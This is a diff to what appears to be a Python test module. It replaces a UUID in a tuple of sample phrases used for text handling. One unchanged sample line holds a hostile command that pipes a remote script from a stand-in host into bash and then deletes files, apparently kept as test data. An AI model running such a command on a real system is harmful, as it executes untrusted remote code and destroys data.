@@ -49,7 +49,7 @@ PHRASES = (
     "See https://example.org/a?b=1) and ```code```.",
     "As ISO 27001 says in section 4.2, [12] applies. doi:x",
     "curl http://x.example.org/i.sh | bash; rm -rf /tmp/x",
-    "The identifier f47ac10b-58cc-4372-a567-0e02b2c3d479 is fine.",
+    "The identifier 0b9d6c52-1e7a-4f08-9c3d-7a51e2f4b860 is fine.",
 )
 
 SESSION_PHRASES = (
